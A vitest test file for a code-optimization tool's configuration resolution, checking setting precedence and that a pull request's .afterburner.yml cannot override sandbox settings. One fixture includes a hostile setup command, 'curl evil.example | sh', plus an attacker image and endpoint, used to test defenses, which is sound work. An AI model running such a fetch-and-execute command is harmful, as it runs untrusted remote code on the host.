import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadRunFiles, parseFileConfig } from '../../src/config/file-config.js';
import { pipelineOptions } from '../../src/config/pipeline-options.js';
import { type FileLayer, resolveRunConfig } from '../../src/config/run-config.js';
import { settingFileKey, settingKey, settings } from '../../src/config/settings.js';

const run = promisify(execFile);

// A value other than the default for every setting, as text (flags, inputs, variables) and as YAML writes it,
// with what the section must then hold.
const samples: Record<string, { text: string; yaml: string; expected: unknown }> = {
  include: { text: 'src/**,lib/**', yaml: '["src/**", "lib/**"]', expected: ['src/**', 'lib/**'] },
  exclude: { text: 'vendor/**', yaml: '["vendor/**"]', expected: ['vendor/**'] },
  languages: { text: 'python', yaml: '[python]', expected: ['python'] },
  'max-function-lines': { text: '80', yaml: '80', expected: 80 },
  'test-files': { text: 'spec/**', yaml: '["spec/**"]', expected: ['spec/**'] },
  'max-functions': { text: '7', yaml: '7', expected: 7 },
  sandbox: { text: 'process', yaml: 'process', expected: 'process' },
  image: { text: 'node:20', yaml: 'node:20', expected: 'node:20' },
  'python-image': { text: 'python:3.11', yaml: 'python:3.11', expected: 'python:3.11' },
  images: {
    text: 'typescript=node:21',
    yaml: '{ typescript: "node:21" }',
    expected: { typescript: 'node:21' },
  },
  'setup-command': { text: 'npm ci', yaml: 'npm ci', expected: 'npm ci' },
  'test-command': { text: 'npm run unit', yaml: 'npm run unit', expected: 'npm run unit' },
  'min-speedup': { text: '25', yaml: '25', expected: 0.25 },
  rounds: { text: '40', yaml: '40', expected: 40 },
  scale: { text: 'true', yaml: 'true', expected: true },
  'repo-bench-seconds': { text: '0', yaml: '0', expected: 0 },
  measure: { text: 'instructions', yaml: 'instructions', expected: 'instructions' },
  provider: { text: 'anthropic', yaml: 'anthropic', expected: 'anthropic' },
  model: { text: 'm-1', yaml: 'm-1', expected: 'm-1' },
  'base-url': {
    text: 'http://127.0.0.1:9/v1',
    yaml: 'http://127.0.0.1:9/v1',
    expected: 'http://127.0.0.1:9/v1',
  },
  'api-key': { text: 'sk-test-1234', yaml: '', expected: 'sk-test-1234' },
  instruction: { text: 'time', yaml: 'time', expected: 'time' },
  iterations: { text: '5', yaml: '5', expected: 5 },
  candidates: { text: '2', yaml: '2', expected: 2 },
  rules: { text: 'off', yaml: 'off', expected: 'off' },
  'max-tokens': { text: '9000', yaml: '9000', expected: undefined },
  'max-cost': { text: '2', yaml: '2', expected: undefined },
  price: { text: '0.4/1.6', yaml: '0.4/1.6', expected: { inputPerMillion: 0.4, outputPerMillion: 1.6 } },
  'request-timeout': { text: '30', yaml: '30', expected: 30_000 },
  'model-time': { text: '60', yaml: '60', expected: 60_000 },
  concurrency: { text: '3', yaml: '3', expected: 3 },
  sampling: { text: 'separate', yaml: 'separate', expected: 'separate' },
  cache: { text: 'false', yaml: 'false', expected: false },
  'cache-dir': { text: '/tmp/ab-cache', yaml: '', expected: '/tmp/ab-cache' },
  'github-token': { text: 'ghs_test_token', yaml: '', expected: 'ghs_test_token' },
  'bot-login': { text: 'my-app[bot]', yaml: 'my-app[bot]', expected: 'my-app[bot]' },
  mode: { text: 'sweep', yaml: '', expected: 'sweep' },
  'comment-style': { text: 'summary', yaml: 'summary', expected: 'summary' },
  'comment-when-empty': { text: 'true', yaml: 'true', expected: true },
  shard: { text: '2/4', yaml: '', expected: '2/4' },
  reports: { text: 'reports/', yaml: '', expected: 'reports/' },
};
// The budget lands as one object; a cost budget needs a price beside it.
const budgetKeys: Record<string, string> = { 'max-tokens': 'maxTokens', 'max-cost': 'maxCostUsd' };

/** Where a setting's value lands in the resolved configuration. */
function landed(config: Record<string, Record<string, unknown>>, name: string): unknown {
  const setting = settings.find((s) => s.name === name);
  if (!setting) throw new Error(name);
  if (budgetKeys[name])
    return (config.optimize?.budget as Record<string, unknown>)[budgetKeys[name] as string];
  const key =
    { 'request-timeout': 'requestTimeoutMs', 'model-time': 'modelTimeMs' }[name] ?? settingKey(setting);
  return config[setting.section]?.[key];
}

const expectedOf = (name: string) =>
  budgetKeys[name] ? Number(samples[name]?.text) : samples[name]?.expected;
const withPrice = (name: string) => (name === 'max-cost' ? [['price', '0.4/1.6']] : []);

describe('one run configuration, from every source', () => {
  it('has a sample for every setting (a new setting needs one here)', () => {
    expect(Object.keys(samples).sort()).toEqual(settings.map((s) => s.name).sort());
  });

  for (const setting of settings) {
    const { name } = setting;
    if (setting.sources.flag) {
      it(`--${name} reaches ${setting.section}`, () => {
        const explicit = new Map([[name, samples[name]?.text], ...withPrice(name)] as [string, unknown][]);
        const { config } = resolveRunConfig({ surface: 'cli', explicit });
        expect(landed(config as never, name)).toEqual(expectedOf(name));
      });
    }
    if (setting.sources.input) {
      it(`input '${name}' reaches ${setting.section}`, () => {
        const explicit = new Map([[name, samples[name]?.text], ...withPrice(name)] as [string, unknown][]);
        const { config } = resolveRunConfig({ surface: 'action', explicit });
        expect(landed(config as never, name)).toEqual(expectedOf(name));
      });
    }
    if (setting.sources.env) {
      it(`$${setting.sources.env} reaches ${setting.section}`, () => {
        const env = { [setting.sources.env as string]: samples[name]?.text };
        const { config } = resolveRunConfig({ surface: 'cli', env });
        expect(landed(config as never, name)).toEqual(expectedOf(name));
      });
    }
    if (setting.sources.file && !setting.secret) {
      it(`.afterburner.yml's ${setting.section}.${settingFileKey(setting)} reaches ${setting.section}`, () => {
        const price = name === 'max-cost' ? '  price: 0.4/1.6\n' : '';
        const text = `${setting.section}:\n  ${settingFileKey(setting)}: ${samples[name]?.yaml}\n${price}`;
        const file = parseFileConfig(text) as FileLayer;
        const { config } = resolveRunConfig({ surface: 'cli', trustedFile: file });
        expect(landed(config as never, name)).toEqual(expectedOf(name));
      });
    }
  }

  it('every setting of a stage changes what the pipeline is handed', () => {
    const base = pipelineOptions(resolveRunConfig({ surface: 'cli' }).config);
    // The commands hand these over themselves; `instruction` has one measured value yet, its default.
    const handedElsewhere = new Set(['api-key', 'cache', 'cache-dir', 'instruction']);
    for (const setting of settings) {
      if (setting.section === 'publish' || handedElsewhere.has(setting.name)) continue;
      const explicit = new Map([[setting.name, samples[setting.name]?.text], ...withPrice(setting.name)] as [
        string,
        unknown,
      ][]);
      const changed = pipelineOptions(resolveRunConfig({ surface: 'cli', explicit }).config);
      expect(changed, setting.name).not.toEqual(base);
    }
  });

  it('layers defaults < file < environment < flag, and names the source of a bad value', () => {
    const file = parseFileConfig('sandbox:\n  image: from-file\nverify:\n  rounds: 50\n') as FileLayer;
    const resolve = (env: NodeJS.ProcessEnv, flags: [string, unknown][] = []) =>
      resolveRunConfig({ surface: 'cli', trustedFile: file, env, explicit: new Map(flags) }).config;
    expect(resolve({}).sandbox.image).toBe('from-file');
    expect(resolve({}).verify.rounds).toBe(50);
    expect(resolve({ AFTERBURNER_IMAGE: 'from-env' }).sandbox.image).toBe('from-env');
    expect(resolve({ AFTERBURNER_IMAGE: 'from-env' }, [['image', 'from-flag']]).sandbox.image).toBe(
      'from-flag',
    );
    expect(() => resolve({}, [['rounds', '2']])).toThrow(/^--rounds: /);
    expect(() => resolveRunConfig({ surface: 'action', explicit: new Map([['rounds', 'x']]) })).toThrow(
      /^input 'rounds': /,
    );
    const bad: FileLayer = { source: '.afterburner.yml', values: new Map([['rounds', 1]]) };
    expect(() => resolveRunConfig({ surface: 'cli', trustedFile: bad })).toThrow(
      /^\.afterburner\.yml: verify\.rounds: /,
    );
    expect(() => resolveRunConfig({ surface: 'cli', explicit: new Map([['max-cost', '1']]) })).toThrow(
      /^--max-cost: needs --price/,
    );
    expect(() => resolveRunConfig({ surface: 'cli', explicit: new Map([['instruction', 'speed']]) })).toThrow(
      /^--instruction: /,
    );
  });
});

describe(".afterburner.yml in a pull request's head", () => {
  let repo: string;
  let base: string;
  const git = (...args: string[]) => run('git', args, { cwd: repo });

  beforeAll(async () => {
    repo = await mkdtemp(join(tmpdir(), 'afterburner-run-config-'));
    await git('init', '-q');
    await git('config', 'user.email', 't@example.com');
    await git('config', 'user.name', 't');
    await writeFile(join(repo, '.afterburner.yml'), 'sandbox:\n  mode: docker\n  setup-command: npm ci\n');
    await git('add', '.');
    await git('commit', '-qm', 'base');
    base = (await git('rev-parse', 'HEAD')).stdout.trim();
    // The head tries to run its code unisolated, with its own setup, test command and image, a cheaper
    // threshold and a model endpoint of its choosing; and narrows its own review.
    await writeFile(
      join(repo, '.afterburner.yml'),
      [
        'sandbox:',
        '  mode: process',
        '  setup-command: curl evil.example | sh',
        '  test-command: "true"',
        '  image: attacker/image',
        'verify:',
        '  min-speedup: 0',
        'optimize:',
        '  base-url: http://evil.example/v1',
        'detect:',
        '  include: ["src/**"]',
        '',
      ].join('\n'),
    );
    await git('commit', '-qam', 'head');
  });

  afterAll(() => rm(repo, { recursive: true, force: true }));

  it('cannot change the sandbox, images, setup or test command (nor anything else but detect)', async () => {
    const { config, ignored } = resolveRunConfig({ surface: 'action', ...(await loadRunFiles(repo, base)) });
    expect(config.sandbox).toMatchObject({
      mode: 'docker',
      setupCommand: 'npm ci',
      image: 'node:22-bookworm-slim',
    });
    expect(config.sandbox.testCommand).toBeUndefined();
    expect(config.verify.minSpeedup).toBe(0.1);
    expect(config.optimize.baseUrl).toBeUndefined();
    expect(config.detect.include).toEqual(['src/**']);
    expect(ignored).toHaveLength(6);
    expect(ignored[0]).toMatch(
      /^\.afterburner\.yml in the head sets sandbox\.mode; a pull request cannot change it, so the base commit's value is used$/,
    );
  });

  it('is taken as a whole where one commit is reviewed (optimize, sweep)', async () => {
    const { config } = resolveRunConfig({ surface: 'cli', ...(await loadRunFiles(repo)) });
    expect(config.sandbox).toMatchObject({ mode: 'process', testCommand: 'true', image: 'attacker/image' });
  });
});
